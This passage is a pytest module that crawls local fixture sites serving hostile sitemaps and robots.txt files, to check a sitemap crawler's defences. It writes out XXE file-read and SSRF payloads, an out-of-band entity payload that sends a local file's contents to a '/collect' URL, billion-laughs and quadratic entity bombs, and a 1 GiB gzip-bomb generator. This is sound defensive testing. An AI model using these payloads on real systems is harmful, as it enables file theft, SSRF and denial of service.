"""Hostile sitemaps, end to end: every case is a real ``scrapy crawl sitemaps`` run against
a local fixture site that serves something a stranger's server might send (see
docs/limits-and-security.md): XXE and entity bombs, gzip bombs, huge text nodes, deep nesting, endless
indexes, monstrous robots.txt files, redirect loops, 5xx, timeouts, refused connections,
trickling servers and plain garbage.

Each hostile sitemap must end as a node that says what happened (an ``invalid`` node with
the reason, or a node that keeps its pages with "size limit"/"parse error: ..."), in
bounded time and memory, and the rest of the crawl goes on (``/good.xml``).

``CASES`` is also run by ``benchmarks/hostile.py``, which measures wall time and peak RSS
of each crawl and prints the table of docs/limits-and-security.md: the two can't disagree.
"""

from __future__ import annotations

import contextlib
import functools
import gzip
import json
import os
import random
import struct
import subprocess
import sys
import time
import zlib
from collections.abc import Callable, Mapping
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import pytest

from sitemap_crawl.parsing import Limits, SitemapReader, parse_sitemap
from sitemap_crawl.parsing.robots import iter_robots_lines
from sitemap_crawl.parsing.xml.libxml import ELEMENT_FLOOD
from tests.support import (
    SITEMAP_NS,
    CrawlResult,
    FixtureServer,
    Route,
    RunningCrawl,
    robots,
    sitemapindex,
    text_sitemap,
    urlset,
)
from tests.support.crawl import CrawlRunner
from tests.support.fixture_server import RouteLike, SiteFactory, closed_port
from tests.support.tree import child_urls, children, tree_of

MiB = 1 << 20
GiB = 1 << 30
RSS_TARGET_MB = 300
WALL_TARGET_S = 30

QUIET = {"LOG_LEVEL": "INFO"}
"""Every case logs at INFO, as the project's settings do (DEBUG would log each dropped node item)."""
NET = {**QUIET, "DOWNLOAD_TIMEOUT": 2, "RETRY_TIMES": 1}
"""Network-fault cases: Scrapy's defaults (180 s timeout, 2 retries) would only make them slower."""
KNOWN_SITEMAP_XML = {"SITEMAP_CRAWL_KNOWN_PATHS": "sitemap.xml"}
"""Cases that need the known-path fallback probe only /sitemap.xml."""

XML_DECL = '<?xml version="1.0" encoding="UTF-8"?>\n'
URLSET_OPEN = f'<urlset xmlns="{SITEMAP_NS}">\n'
SECRET = "XXE-SECRET-5f1c9a"
"""Content of a local file (and of an HTTP resource) that hostile entities point at."""


# -- cases ---------------------------------------------------------------------------------


@dataclass
class CaseEnv:
    """What a case may use to build its sites: a factory of started fixture sites and a
    scratch directory (for files that hostile entities point at)."""

    site: SiteFactory
    tmp: Path


@dataclass(frozen=True)
class Case:
    """A hostile site and what the crawl must make of it.

    ``build`` starts the site(s) and returns the one crawled (``homepage``); ``check``
    asserts on the finished crawl and returns a one-line outcome for the benchmark table.
    ``targeted``: held to the targets (peak RSS < 300 MB, wall < 30 s).
    """

    name: str
    about: str
    build: Callable[[CaseEnv], FixtureServer]
    check: Callable[[CrawlResult, FixtureServer], str]
    settings: Mapping[str, object] = field(default_factory=lambda: dict(QUIET))
    args: Mapping[str, object] = field(default_factory=lambda: {"use_known_paths": False})
    timeout: float = 120.0
    targeted: bool = True
    slow: bool = False


CASES: list[Case] = []


def case(
    about: str,
    check: Callable[[CrawlResult, FixtureServer], str],
    **options: Any,
) -> Callable[[Callable[[CaseEnv], FixtureServer]], Callable[[CaseEnv], FixtureServer]]:
    """Register a site builder as a case named after the function."""

    def register(build: Callable[[CaseEnv], FixtureServer]) -> Callable[[CaseEnv], FixtureServer]:
        CASES.append(Case(build.__name__, about, build, check, **options))
        return build

    return register


# -- helpers -------------------------------------------------------------------------------


GOOD_PAGES = ("/good/1", "/good/2")


def hostile_site(env: CaseEnv, routes: Mapping[str, RouteLike], declared: list[str] | None = None) -> FixtureServer:
    """A site whose robots.txt declares the hostile sitemaps (``declared``, default: every
    route given) and then a good sitemap, /good.xml, which must come through untouched."""
    paths = list(routes) if declared is None else declared
    base_routes: dict[str, RouteLike] = {
        "/robots.txt": robots(*(f"{{base}}{path}" for path in paths), "{base}/good.xml"),
        "/good.xml": urlset(*(f"{{base}}{page}" for page in GOOD_PAGES)),
    }
    return env.site({**base_routes, **routes})


def nodes(result: CrawlResult, site: FixtureServer, path: str) -> list[dict[str, Any]]:
    return result.node(site.url(path))


def the_node(result: CrawlResult, site: FixtureServer, path: str) -> dict[str, Any]:
    found = nodes(result, site, path)
    assert len(found) == 1, f"{path}: {len(found)} nodes\n{result.tree_text()[:5000]}"
    return found[0]


def expect(
    result: CrawlResult,
    site: FixtureServer,
    path: str,
    kind: str,
    error: str | None,
    pages: int | None = None,
) -> dict[str, Any]:
    node = the_node(result, site, path)
    assert (node["kind"], node["error"]) == (kind, error), f"{path}: {node}\n{result.tree_text()[:5000]}"
    if pages is not None:
        assert node["page_count"] == pages, f"{path}: {node}"
    return node


def outcome(node: dict[str, Any]) -> str:
    text = f"{node['kind']}, {node['error'] or 'no error'}"
    if node["page_count"]:
        text += f", {node['page_count']:,} page{'s' if node['page_count'] > 1 else ''}"
    return text


def good_survives(result: CrawlResult, site: FixtureServer) -> None:
    """The good sitemap declared next to the hostile ones is read in full."""
    expect(result, site, "/good.xml", "xml_urlset", None, pages=len(GOOD_PAGES))
    urls = set(result.urls())
    assert {site.url(page) for page in GOOD_PAGES} <= urls


def page_urls(result: CrawlResult, site: FixtureServer, sitemap_path: str) -> list[str]:
    sitemap_url = site.url(sitemap_path)
    return [page["url"] for page in result.pages if page["sitemap_url"] == sitemap_url]


def secret_absent(result: CrawlResult) -> None:
    """Nothing that a hostile entity points at reached the feed, the tree or the log."""
    assert result.feed_path is not None
    assert SECRET not in result.feed_path.read_text("utf-8", errors="replace")
    assert SECRET not in json.dumps(result.tree)
    assert SECRET not in result.log


@functools.lru_cache(maxsize=8)
def gzip_bomb(prefix: bytes, unit: bytes, size: int, suffix: bytes = b"") -> bytes:
    """A valid gzip file of about ``size`` bytes once inflated: ``prefix``, ``unit`` repeated,
    ``suffix``. It compresses about 1000:1 and is built in a fraction of a second: each part
    is deflated once, ending with a full flush, so the 1 MiB block's compressed piece can
    simply be repeated."""
    block = unit * max(1, MiB // len(unit))
    count = max(1, (size - len(prefix) - len(suffix)) // len(block))

    def piece(data: bytes) -> bytes:
        compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
        return compressor.compress(data) + compressor.flush(zlib.Z_FULL_FLUSH)

    crc = zlib.crc32(prefix)
    for _ in range(count):
        crc = zlib.crc32(block, crc)
    crc = zlib.crc32(suffix, crc)
    length = len(prefix) + len(block) * count + len(suffix)
    header = b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x02\xff"
    final_block = b"\x03\x00"  # an empty, final fixed-Huffman block
    body = piece(prefix) + piece(block) * count + piece(suffix) + final_block
    return header + body + struct.pack("<II", crc & 0xFFFFFFFF, length & 0xFFFFFFFF)


def xml_bomb(base: str) -> bytes:
    """A 1 GiB urlset, gzipped to 3 MB: one entry repeated, after a first one. The URLs are
    absolute (the bytes are compressed: the fixture server can't fill in {base})."""
    prefix = f"{XML_DECL}{URLSET_OPEN}<url><loc>{base}/bomb/first</loc></url>\n"
    unit = (
        f"<url><loc>{base}/bomb/same</loc><lastmod>2024-01-01</lastmod>"
        "<changefreq>daily</changefreq><priority>0.5</priority></url>\n"
    )
    return gzip_bomb(prefix.encode(), unit.encode(), GiB)


def url_entries(*paths: str) -> str:
    return "".join(f"<url><loc>{{base}}{path}</loc></url>\n" for path in paths)


# -- XML: entities, DTDs ---------------------------------------------------------------------


def check_xxe_file(result: CrawlResult, site: FixtureServer) -> str:
    node = expect(result, site, "/xxe.xml", "xml_urlset", None)
    assert page_urls(result, site, "/xxe.xml") == [site.url("/xxe/before"), site.url("/xxe/after")]
    secret_absent(result)
    good_survives(result, site)
    return outcome(node) + "; file never read"


@case("external entity reading a local file (file:// XXE)", check_xxe_file)
def xxe_file_entity(env: CaseEnv) -> FixtureServer:
    secret = env.tmp / "secret.txt"
    secret.write_text(SECRET + "\n")
    doc = (
        XML_DECL
        + f'<!DOCTYPE urlset [<!ENTITY xxe SYSTEM "file://{secret}">]>\n'
        + URLSET_OPEN
        + url_entries("/xxe/before")
        + "<url><loc>&xxe;</loc></url>\n"
        + "<url><loc>{base}/xxe/after</loc><lastmod>&xxe;</lastmod></url>\n"
        + "</urlset>\n"
    )
    return hostile_site(env, {"/xxe.xml": doc})


def check_xxe_http(result: CrawlResult, site: FixtureServer) -> str:
    node = expect(result, site, "/xxe.xml", "xml_urlset", None)
    assert page_urls(result, site, "/xxe.xml") == [site.url("/xxe/before"), site.url("/xxe/after")]
    assert site.hits("/xxe-target") == 0
    secret_absent(result)
    good_survives(result, site)
    return outcome(node) + "; 0 entity fetches"


@case("external entity fetched over HTTP (SSRF through XXE)", check_xxe_http)
def xxe_http_entity(env: CaseEnv) -> FixtureServer:
    doc = (
        XML_DECL
        + '<!DOCTYPE urlset [<!ENTITY xxe SYSTEM "{base}/xxe-target">]>\n'
        + URLSET_OPEN
        + url_entries("/xxe/before")
        + "<url><loc>&xxe;</loc></url>\n"
        + url_entries("/xxe/after")
        + "</urlset>\n"
    )
    return hostile_site(env, {"/xxe.xml": doc, "/xxe-target": Route(SECRET, content_type="text/plain")}, ["/xxe.xml"])


def check_external_dtd(result: CrawlResult, site: FixtureServer) -> str:
    for path in ("/dtd-system.xml", "/dtd-public.xml"):
        expect(result, site, path, "xml_urlset", None, pages=2)
        assert page_urls(result, site, path) == [site.url("/dtd/before"), site.url("/dtd/after")]
    assert site.hits("/evil.dtd") == 0
    assert site.hits("/collect") == 0
    secret_absent(result)
    good_survives(result, site)
    return outcome(the_node(result, site, "/dtd-system.xml")) + "; DTD never fetched"


@case("external DTD (SYSTEM and PUBLIC) defining entities", check_external_dtd)
def external_dtd(env: CaseEnv) -> FixtureServer:
    body = URLSET_OPEN + url_entries("/dtd/before") + "<url><loc>&ext;</loc></url>\n" + url_entries("/dtd/after")
    body += "</urlset>\n"
    evil_dtd = f'<!ENTITY ext SYSTEM "{{base}}/collect">\n<!ENTITY secret "{SECRET}">\n'
    return hostile_site(
        env,
        {
            "/dtd-system.xml": XML_DECL + '<!DOCTYPE urlset SYSTEM "{base}/evil.dtd">\n' + body,
            "/dtd-public.xml": XML_DECL
            + '<!DOCTYPE urlset PUBLIC "-//Evil//DTD Sitemap//EN" "{base}/evil.dtd">\n'
            + body,
            "/evil.dtd": Route(evil_dtd, content_type="application/xml-dtd"),
            "/collect": Route(SECRET, content_type="text/plain"),
        },
        ["/dtd-system.xml", "/dtd-public.xml"],
    )


def check_parameter_entities(result: CrawlResult, site: FixtureServer) -> str:
    node = expect(result, site, "/param.xml", "xml_urlset", None, pages=2)
    oob = the_node(result, site, "/param-oob.xml")
    assert oob["page_count"] == 0 and oob["error"] is not None and oob["error"].startswith("parse error"), oob
    assert site.hits("/param.dtd") == 0
    assert [r.path for r in site.requests if r.path.startswith("/collect")] == []
    secret_absent(result)
    good_survives(result, site)
    return f"{outcome(node)}; out-of-band: {outcome(oob)}; 0 fetches"


@case("parameter entities: external %remote; and out-of-band exfiltration", check_parameter_entities)
def parameter_entities(env: CaseEnv) -> FixtureServer:
    secret = env.tmp / "secret.txt"
    secret.write_text(SECRET + "\n")
    entries = URLSET_OPEN + url_entries("/param/before") + "<url><loc>&send;</loc></url>\n"
    entries += url_entries("/param/after") + "</urlset>\n"
    remote = XML_DECL + '<!DOCTYPE urlset [\n<!ENTITY % remote SYSTEM "{base}/param.dtd">\n%remote;\n]>\n' + entries
    oob = (
        XML_DECL
        + "<!DOCTYPE urlset [\n"
        + f'<!ENTITY % file SYSTEM "file://{secret}">\n'
        + "<!ENTITY % wrap \"<!ENTITY send SYSTEM '{base}/collect?%file;'>\">\n"
        + "%wrap;\n]>\n"
        + entries
    )
    param_dtd = f"<!ENTITY % file SYSTEM \"file://{secret}\">\n<!ENTITY send SYSTEM '{{base}}/collect?x'>\n"
    return hostile_site(
        env,
        {
            "/param.xml": remote,
            "/param-oob.xml": oob,
            "/param.dtd": Route(param_dtd, content_type="application/xml-dtd"),
        },
        ["/param.xml", "/param-oob.xml"],
    )


LAUGHS = '<!ENTITY lol "lol">\n' + "".join(
    f'<!ENTITY lol{level} "{("&lol;" if level == 1 else f"&lol{level - 1};") * 10}">\n' for level in range(1, 10)
)


def check_billion_laughs(result: CrawlResult, site: FixtureServer) -> str:
    node = expect(result, site, "/laughs.xml", "xml_urlset", "parse error: entity expansion")
    urls = page_urls(result, site, "/laughs.xml")
    assert urls[0] == site.url("/laughs/before")
    assert len(urls) <= 3  # recover mode may read on, with "&lol9;" kept as written
    assert result.feed_path is not None and "lollol" not in result.feed_path.read_text("utf-8")
    good_survives(result, site)
    return outcome(node)


@case("billion laughs (10^9 expansion of nested internal entities)", check_billion_laughs)
def billion_laughs(env: CaseEnv) -> FixtureServer:
    doc = (
        XML_DECL
        + f"<!DOCTYPE urlset [\n{LAUGHS}]>\n"
        + URLSET_OPEN
        + url_entries("/laughs/before")
        + "<url><loc>{base}/laughs/&lol9;</loc></url>\n"
        + url_entries("/laughs/after")
        + "</urlset>\n"
    )
    return hostile_site(env, {"/laughs.xml": doc})


def check_quadratic(result: CrawlResult, site: FixtureServer) -> str:
    node = expect(result, site, "/quadratic.xml", "xml_urlset", "parse error: entity expansion")
    urls = page_urls(result, site, "/quadratic.xml")
    assert urls[0] == site.url("/quadratic/before")
    assert len(urls) <= 3 and all(len(url) < 300_000 for url in urls)  # never expanded (2 GB)
    good_survives(result, site)
    return outcome(node)


@case("quadratic blowup (a 100 KB entity referenced 20,000 times: 2 GB)", check_quadratic)
def quadratic_blowup(env: CaseEnv) -> FixtureServer:
    doc = (
        XML_DECL
        + f'<!DOCTYPE urlset [<!ENTITY a "{"A" * 100_000}">]>\n'
        + URLSET_OPEN
        + url_entries("/quadratic/before")
        + "<url><loc>{base}/quadratic/"
        + "&a;" * 20_000
        + "</loc></url>\n"
        + url_entries("/quadratic/after")
        + "</urlset>\n"
    )
    return hostile_site(env, {"/quadratic.xml": doc})


# -- gzip bombs ------------------------------------------------------------------------------


def check_gzip_bomb_file(result: CrawlResult, site: FixtureServer) -> str:
    node = expect(result, site, "/bomb.xml.gz", "xml_urlset", "size limit", pages=2)
    assert page_urls(result, site, "/bomb.xml.gz") == [site.url("/bomb/first"), site.url("/bomb/same")]
    zeros = expect(result, site, "/zeros.xml.gz", "invalid", "size limit")
    good_survives(result, site)
    return f"{outcome(node)}; zeros: {outcome(zeros)}"


@case("gzip bomb as a .gz file: 1 GiB urlset / 1 GiB of zeros, ~1 MB each on the wire", check_gzip_bomb_file)
def gzip_bomb_file(env: CaseEnv) -> FixtureServer:
    site = hostile_site(env, {"/bomb.xml.gz": b"", "/zeros.xml.gz": b""})
    site["/bomb.xml.gz"] = Route(xml_bomb(site.base))
    site["/zeros.xml.gz"] = Route(gzip_bomb(b"", b"\0", GiB))
    return site


def check_gzip_bomb_encoding(result: CrawlResult, site: FixtureServer) -> str:
    node = expect(result, site, "/bomb.xml", "invalid", "size limit")
    good_survives(result, site)
    return outcome(node)


@case("gzip bomb sent with Content-Encoding: gzip (1 GiB inflated)", check_gzip_bomb_encoding)
def gzip_bomb_content_encoding(env: CaseEnv) -> FixtureServer:
    site = hostile_site(env, {"/bomb.xml": b""})
    site["/bomb.xml"] = Route(xml_bomb(site.base), headers={"Content-Encoding": "gzip"})
    return site


def check_gzip_bomb_nested(result: CrawlResult, site: FixtureServer) -> str:
    node = expect(result, site, "/nested.xml.gz", "xml_urlset", "size limit", pages=2)
    too_deep = expect(result, site, "/four-layers.xml.gz", "invalid", "not a sitemap")
    good_survives(result, site)
    return f"{outcome(node)}; 4 file layers: {outcome(too_deep)}"


@case("nested gzip: Content-Encoding over 3 gzip file layers over a 1 GiB bomb", check_gzip_bomb_nested)
def gzip_bomb_nested(env: CaseEnv) -> FixtureServer:
    site = hostile_site(env, {"/nested.xml.gz": b"", "/four-layers.xml.gz": b""})
    three_layers = gzip.compress(gzip.compress(xml_bomb(site.base), mtime=0), mtime=0)
    site["/nested.xml.gz"] = Route(three_layers, headers={"Content-Encoding": "gzip"}, content_type="application/xml")
    site["/four-layers.xml.gz"] = Route(gzip.compress(three_layers, mtime=0))
    return site


def check_size_cap(result: CrawlResult, site: FixtureServer) -> str:
    on_wire = expect(result, site, "/big.xml", "invalid", "size limit")
    expect(result, site, "/big-chunked.xml", "invalid", "size limit")
    inflated = expect(result, site, "/big.xml.gz", "xml_urlset", "size limit")
    assert 0 < inflated["page_count"] < BIG_PAGES
    assert page_urls(result, site, "/big.xml.gz")[:2] == [site.url("/big/0"), site.url("/big/1")]
    good_survives(result, site)
    return f"downloads over the cap: {outcome(on_wire)}; a .gz inflating past it: {outcome(inflated)}"


BIG_PAGES = 120_000


@case(
    "6 MB sitemaps (Content-Length, chunked, .gz) with SITEMAP_CRAWL_MAX_SIZE=4 MiB",
    check_size_cap,
    settings={**QUIET, "SITEMAP_CRAWL_MAX_SIZE": 4 * MiB},
)
def size_cap(env: CaseEnv) -> FixtureServer:
    big = urlset(*(f"{{base}}/big/{i}" for i in range(BIG_PAGES)))
    return hostile_site(
        env,
        {
            "/big.xml": big,
            "/big-chunked.xml": Route(big, chunked=True),
            "/big.xml.gz": Route(big, gzip_file=True),
        },
    )


# -- XML structure ----------------------------------------------------------------------------


def check_huge_text_node(result: CrawlResult, site: FixtureServer) -> str:
    node = expect(result, site, "/huge-text.xml", "xml_urlset", "parse error: text node over 10 MB", pages=2)
    assert page_urls(result, site, "/huge-text.xml") == [site.url("/huge/1"), site.url("/huge/2")]
    good_survives(result, site)
    return outcome(node)


@case("one 12 MB text node between good entries", check_huge_text_node)
def huge_text_node(env: CaseEnv) -> FixtureServer:
    doc = (
        XML_DECL
        + URLSET_OPEN
        + url_entries("/huge/1", "/huge/2")
        + "<url><loc>{base}/"
        + "a" * (12 * MiB)
        + "</loc></url>\n"
        + url_entries("/huge/after")
        + "</urlset>\n"
    )
    return hostile_site(env, {"/huge-text.xml": Route(doc, gzip_encoding=True)})


def check_element_flood(result: CrawlResult, site: FixtureServer) -> str:
    between = expect(result, site, "/flood.xml.gz", "xml_urlset", "size limit", pages=2)
    assert page_urls(result, site, "/flood.xml.gz") == [site.url("/flood/1"), site.url("/flood/2")]
    inside = expect(result, site, "/flood-inside.xml", "xml_urlset", f"parse error: {ELEMENT_FLOOD}", pages=1)
    assert page_urls(result, site, "/flood-inside.xml") == [site.url("/inside/1")]
    good_survives(result, site)
    return f"between entries: {outcome(between)}; inside one: {outcome(inside)}"


@case(
    "other elements between entries (<x/> over a 1 GiB .gz, 32 MiB read) and 8 MiB of them inside one",
    check_element_flood,
    settings={**QUIET, "SITEMAP_CRAWL_MAX_SIZE": 32 * MiB},
)
def element_flood(env: CaseEnv) -> FixtureServer:
    site = hostile_site(env, {"/flood.xml.gz": b"", "/flood-inside.xml": b""})
    prefix = (
        f"{XML_DECL}{URLSET_OPEN}<url><loc>{site.base}/flood/1</loc></url><url><loc>{site.base}/flood/2</loc></url>"
    )
    site["/flood.xml.gz"] = Route(gzip_bomb(prefix.encode(), b"<x/>", GiB))
    site["/flood-inside.xml"] = Route(
        XML_DECL
        + URLSET_OPEN
        + url_entries("/inside/1")
        + "<url><loc>{base}/inside/2</loc>"
        + "<x/>" * (2 * MiB)
        + "</url>\n"
        + url_entries("/inside/after")
        + "</urlset>\n"
    )
    return site


def check_deep_nesting(result: CrawlResult, site: FixtureServer) -> str:
    node = expect(result, site, "/deep.xml", "xml_urlset", "parse error: elements nested deeper than 256", pages=2)
    assert page_urls(result, site, "/deep.xml") == [site.url("/deep/1"), site.url("/deep/2")]
    good_survives(result, site)
    return outcome(node)


@case("100,000 nested elements inside an entry", check_deep_nesting)
def deep_nesting(env: CaseEnv) -> FixtureServer:
    doc = (
        XML_DECL
        + URLSET_OPEN
        + url_entries("/deep/1", "/deep/2")
        + "<url><loc>{base}/deep/3</loc>"
        + "<x>" * 100_000
        + "</x>" * 100_000
        + "</url>\n"
        + url_entries("/deep/after")
        + "</urlset>\n"
    )
    return hostile_site(env, {"/deep.xml": doc})


ONE_LINE_PAGES = 100_000


def check_long_lines(result: CrawlResult, site: FixtureServer) -> str:
    one_line = expect(result, site, "/one-line.xml", "xml_urlset", None, pages=ONE_LINE_PAGES)
    text = expect(result, site, "/long-line.txt", "text", "parse error", pages=2)
    assert page_urls(result, site, "/long-line.txt") == [site.url("/text/1"), site.url("/text/2")]
    good_survives(result, site)
    return f"single-line XML: {outcome(one_line)}; text: {outcome(text)}"


@case("a 6 MB urlset on one line; a text sitemap with a 1 MiB line", check_long_lines)
def long_lines(env: CaseEnv) -> FixtureServer:
    one_line = XML_DECL.strip() + URLSET_OPEN.strip()
    one_line += "".join(f"<url><loc>{{base}}/line/{i}</loc></url>" for i in range(ONE_LINE_PAGES)) + "</urlset>"
    text = "{base}/text/1\n" + "x" * MiB + "\n{base}/text/2\n"
    return hostile_site(env, {"/one-line.xml": one_line, "/long-line.txt": text})


# -- indexes ------------------------------------------------------------------------------------


def dead_index(children: int) -> str:
    body = "".join(f"<sitemap><loc>/dead/{i}.xml</loc></sitemap>\n" for i in range(children))
    return XML_DECL + f'<sitemapindex xmlns="{SITEMAP_NS}">\n{body}</sitemapindex>\n'


def check_index_dead_children(cap: int) -> Callable[[CrawlResult, FixtureServer], str]:
    def check(result: CrawlResult, site: FixtureServer) -> str:
        node = expect(result, site, "/index.xml", "xml_index", "size limit")
        children = node["sub_sitemaps"]
        assert len(children) == cap
        assert {(child["kind"], child["error"]) for child in children} == {("invalid", "HTTP 404")}
        fetched = [r.path for r in site.requests if r.path.startswith("/dead/")]
        assert len(fetched) == len(set(fetched)) == cap  # each child once, none past the cap
        assert set(fetched) == {f"/dead/{i}.xml" for i in range(cap)}
        good_survives(result, site)
        return f"{outcome(node)}, {cap:,} children fetched once each (HTTP 404)"

    return check


@case(
    "an index of 100,000 dead (404) children, SITEMAP_CRAWL_MAX_INDEX_CHILDREN=1000",
    check_index_dead_children(1000),
    settings={**QUIET, "SITEMAP_CRAWL_MAX_INDEX_CHILDREN": 1000},
)
def index_100k_children_capped(env: CaseEnv) -> FixtureServer:
    return hostile_site(env, {"/index.xml": dead_index(100_000)})


@case(
    "an index of 100,000 dead (404) children, default settings (50,000 fetched)",
    check_index_dead_children(50_000),
    timeout=1800,
    targeted=False,
    slow=True,
)
def index_100k_children(env: CaseEnv) -> FixtureServer:
    return hostile_site(env, {"/index.xml": dead_index(100_000)})


def check_index_loops(result: CrawlResult, site: FixtureServer) -> str:
    self_index = nodes(result, site, "/self.xml")[0]  # the loop node below has the same URL
    assert (self_index["kind"], self_index["error"]) == ("xml_index", None)
    assert [(c["url"], c["kind"], c["error"]) for c in self_index["sub_sitemaps"]] == [
        (site.url("/self.xml"), "invalid", "loop"),
        (site.url("/leaf.xml"), "xml_urlset", None),
    ]
    pong = expect(result, site, "/pong.xml", "xml_index", None)
    assert [(c["url"], c["error"]) for c in pong["sub_sitemaps"]] == [(site.url("/ping.xml"), "loop")]
    expect(result, site, "/hop-redirect.xml", "invalid", "loop")
    for path in ("/self.xml", "/ping.xml", "/pong.xml", "/hop-redirect.xml", "/leaf.xml"):
        assert site.hits(path) == 1, (path, site.paths())
    assert site.hits("/hop.xml") == 2  # declared, then reached again by the redirect: not read twice
    good_survives(result, site)
    return "itself, a cycle and a redirect back: invalid, loop; each fetched once"


@case("indexes that list themselves, each other, or redirect back", check_index_loops)
def index_loops(env: CaseEnv) -> FixtureServer:
    return hostile_site(
        env,
        {
            "/self.xml": sitemapindex("{base}/self.xml", "{base}/leaf.xml"),
            "/leaf.xml": urlset("{base}/leaf/1"),
            "/ping.xml": sitemapindex("{base}/pong.xml"),
            "/pong.xml": sitemapindex("{base}/ping.xml"),
            "/hop.xml": sitemapindex("{base}/hop-redirect.xml"),
            "/hop-redirect.xml": Route(redirect_to="/hop.xml"),
        },
        ["/self.xml", "/ping.xml", "/hop.xml"],
    )


def check_index_repeats(result: CrawlResult, site: FixtureServer) -> str:
    node = expect(result, site, "/repeat.xml", "xml_index", None)
    assert child_urls(node) == [site.url("/child.xml")]
    assert site.hits("/child.xml") == 1
    assert page_urls(result, site, "/child.xml") == [site.url("/child/1")]
    good_survives(result, site)
    return f"{outcome(node)}; the child fetched once"


@case("an index naming the same child 100,000 times", check_index_repeats)
def index_repeats_child(env: CaseEnv) -> FixtureServer:
    return hostile_site(
        env,
        {
            "/repeat.xml": sitemapindex(*["{base}/child.xml"] * 100_000),
            "/child.xml": urlset("{base}/child/1"),
        },
        ["/repeat.xml"],
    )


def check_index_chain(result: CrawlResult, site: FixtureServer) -> str:
    chain = [node for _, node in result.walk() if "/chain/" in node["url"]]
    assert [node["kind"] for node in chain[:-1]] == ["xml_index"] * (len(chain) - 1)
    assert (chain[-1]["kind"], chain[-1]["error"]) == ("invalid", "depth limit")
    assert len(chain) == 11  # SITEMAP_CRAWL_MAX_DEPTH = 10 levels below robots.txt, then the limit
    assert sum(site.hits(f"/chain/{i}.xml") for i in range(1000)) == 10
    good_survives(result, site)
    return f"10 levels read, the 11th: {outcome(chain[-1])}"


@case("an endless chain of indexes (each lists the next)", check_index_chain)
def index_chain(env: CaseEnv) -> FixtureServer:
    routes = {f"/chain/{i}.xml": sitemapindex(f"{{base}}/chain/{i + 1}.xml") for i in range(1000)}
    return hostile_site(env, routes, ["/chain/0.xml"])


# -- robots.txt ---------------------------------------------------------------------------------


def check_robots_found_good(result: CrawlResult, site: FixtureServer) -> str:
    node = expect(result, site, "/robots.txt", "robots_txt", None)
    assert child_urls(node) == [site.url("/good.xml")]
    good_survives(result, site)
    return f"{outcome(node)}; its Sitemap: line found"


@case("a 30 MB robots.txt (a million lines), the Sitemap: line last", check_robots_found_good)
def robots_huge(env: CaseEnv) -> FixtureServer:
    lines = "".join(f"Disallow: /private/{i:08d}/\n" for i in range(1_000_000))
    return env.site(
        {
            "/robots.txt": "User-agent: *\n" + lines + "Sitemap: {base}/good.xml\n",
            "/good.xml": urlset(*(f"{{base}}{page}" for page in GOOD_PAGES)),
        }
    )


@case("a robots.txt whose first line is 20 MiB long", check_robots_found_good)
def robots_huge_line(env: CaseEnv) -> FixtureServer:
    return env.site(
        {
            "/robots.txt": "# " + "x" * (20 * MiB) + "\nSitemap: {base}/good.xml\n",
            "/good.xml": urlset(*(f"{{base}}{page}" for page in GOOD_PAGES)),
        }
    )


@case("a UTF-16 robots.txt (with BOM, CRLF)", check_robots_found_good)
def robots_utf16(env: CaseEnv) -> FixtureServer:
    site = env.site({"/good.xml": urlset(*(f"{{base}}{page}" for page in GOOD_PAGES))})
    text = "User-agent: *\r\nDisallow: /private\r\n\r\nSitemap: {base}/good.xml\r\n"
    site["/robots.txt"] = Route(site.format(text).encode("utf-16"))
    return site


def check_robots_left_out(result: CrawlResult, site: FixtureServer) -> str:
    assert result.tree is not None
    assert children(tree_of(result)) == [(site.url("/sitemap.xml"), "xml_urlset")]
    assert site.hits("/robots.txt") >= 1
    assert set(result.urls()) == {site.url("/found/1")}
    return "robots.txt left out of the tree; the known path /sitemap.xml still read"


def fallback_site(env: CaseEnv, routes: Mapping[str, RouteLike]) -> FixtureServer:
    return env.site({**routes, "/sitemap.xml": urlset("{base}/found/1")})


@case(
    "a robots.txt of 1 MiB of random bytes",
    check_robots_left_out,
    args={"use_known_paths": True},
    settings={**QUIET, **KNOWN_SITEMAP_XML},
)
def robots_binary(env: CaseEnv) -> FixtureServer:
    return fallback_site(env, {"/robots.txt": Route(random.Random(7).randbytes(MiB), content_type="text/plain")})


@case(
    "an HTML page served as robots.txt",
    check_robots_left_out,
    args={"use_known_paths": True},
    settings={**QUIET, **KNOWN_SITEMAP_XML},
)
def robots_html(env: CaseEnv) -> FixtureServer:
    page = "<!DOCTYPE html>\n<html><body><p>Sitemap: {base}/trap.xml</p></body></html>\n"
    return fallback_site(env, {"/robots.txt": Route(page, content_type="text/html")})


@case(
    "robots.txt redirecting in a loop",
    check_robots_left_out,
    args={"use_known_paths": True},
    settings={**QUIET, **KNOWN_SITEMAP_XML},
)
def robots_redirect_loop(env: CaseEnv) -> FixtureServer:
    return fallback_site(
        env,
        {"/robots.txt": Route(redirect_to="/robots-2.txt"), "/robots-2.txt": Route(redirect_to="/robots.txt")},
    )


def check_robots_elsewhere(result: CrawlResult, site: FixtureServer) -> str:
    node = expect(result, site, "/robots.txt", "robots_txt", None)
    [child] = node["sub_sitemaps"]
    assert (child["url"].endswith("/elsewhere.xml"), child["kind"], child["page_count"]) == (True, "xml_urlset", 1)
    assert [url for url in result.urls() if url.endswith("/elsewhere/1")]
    return f"{outcome(node)}; the other host's sitemap read: {outcome(child)}"


@case("robots.txt redirected to another host's robots.txt", check_robots_elsewhere)
def robots_redirect_elsewhere(env: CaseEnv) -> FixtureServer:
    other = env.site({"/robots.txt": robots("{base}/elsewhere.xml"), "/elsewhere.xml": urlset("{base}/elsewhere/1")})
    return env.site({"/robots.txt": Route(redirect_to=other.url("/robots.txt"), status=302)})


# -- network faults -----------------------------------------------------------------------------


def check_redirect_loop(result: CrawlResult, site: FixtureServer) -> str:
    node = expect(result, site, "/loop-a.xml", "invalid", "redirect limit")
    assert site.hits("/loop-a.xml") + site.hits("/loop-b.xml") <= 21  # REDIRECT_MAX_TIMES = 20
    good_survives(result, site)
    return outcome(node)


@case("a sitemap redirecting in a loop (a -> b -> a ...)", check_redirect_loop)
def redirect_loop(env: CaseEnv) -> FixtureServer:
    return hostile_site(
        env,
        {"/loop-a.xml": Route(redirect_to="/loop-b.xml"), "/loop-b.xml": Route(redirect_to="/loop-a.xml", status=302)},
        ["/loop-a.xml"],
    )


def check_redirect_chain(result: CrawlResult, site: FixtureServer) -> str:
    node = expect(result, site, "/hop/0.xml", "invalid", "redirect limit")
    hops = [r.path for r in site.requests if r.path.startswith("/hop/")]
    assert hops == [f"/hop/{i}.xml" for i in range(21)]
    good_survives(result, site)
